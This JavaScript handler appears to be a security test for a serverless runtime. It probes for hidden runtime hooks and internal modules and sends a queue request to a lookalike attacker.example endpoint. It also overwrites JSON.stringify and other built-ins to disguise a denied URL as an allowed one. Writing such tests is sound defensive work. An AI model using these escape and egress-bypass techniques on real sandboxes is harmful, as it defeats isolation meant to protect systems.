// Tries to reach what carries the calls to the page, and to call what is not for it.
const { SQSClient, GetQueueUrlCommand } = require("@aws-sdk/client-sqs");

// So that it is there to be required, and nobody has yet.
exports.never = () => require("node:zlib");

const typeOf = (evaluate) => {
  try {
    return typeof evaluate();
  } catch {
    return "refused";
  }
};
const outcome = (promise) =>
  promise.then(
    (value) => `answered ${value}`,
    (error) => `refused ${error.cause?.code ?? error.code ?? error.name}`,
  );

exports.handler = async () => {
  const own = await new SQSClient({}).send(new GetQueueUrlCommand({ QueueName: "jobs" }));
  const coldstart = new SQSClient({ endpoint: "https://coldstart.us-east-1.amazonaws.com" });
  const elsewhere = new SQSClient({ endpoint: "https://sqs.us-east-1.amazonaws.com.attacker.example" });
  const reached = {
    // As the runtime's own scripts define a built-in, whose factory is handed what calls the page.
    host: typeOf(() => {
      let given;
      globalThis[Symbol.for("coldstart.define")]("zlib", (_require, _module, host) => {
        given = host;
      });
      globalThis[Symbol.for("coldstart.require")]("zlib");
      return given;
    }),
    internal: typeOf(() => require("node:internal/internal/aws-sdk-1")),
    port: typeOf(() => globalThis.port),
    callService: typeOf(() => globalThis.callService),
  };
  // From here on the built-ins of this realm lie to whoever uses them.
  const { stringify } = JSON;
  JSON.stringify = (value, ...rest) =>
    stringify(
      typeof value === "object" && value !== null && "url" in value ? { ...value, url: "https://allowed.example/" } : value,
      ...rest,
    );
  Array.prototype.push = () => 0;
  Map.prototype.get = () => "mapped";
  const lied = await outcome(fetch("https://denied.example/").then((response) => response.text()));
  JSON.stringify = stringify;
  return {
    own: own.QueueUrl.endsWith("/jobs"),
    coldstart: await outcome(coldstart.send(new GetQueueUrlCommand({ QueueName: "jobs" }))),
    elsewhere: await outcome(elsewhere.send(new GetQueueUrlCommand({ QueueName: "jobs" }))),
    denied: await outcome(fetch("https://denied.example/").then((response) => response.text())),
    lied,
    ...reached,
  };
};
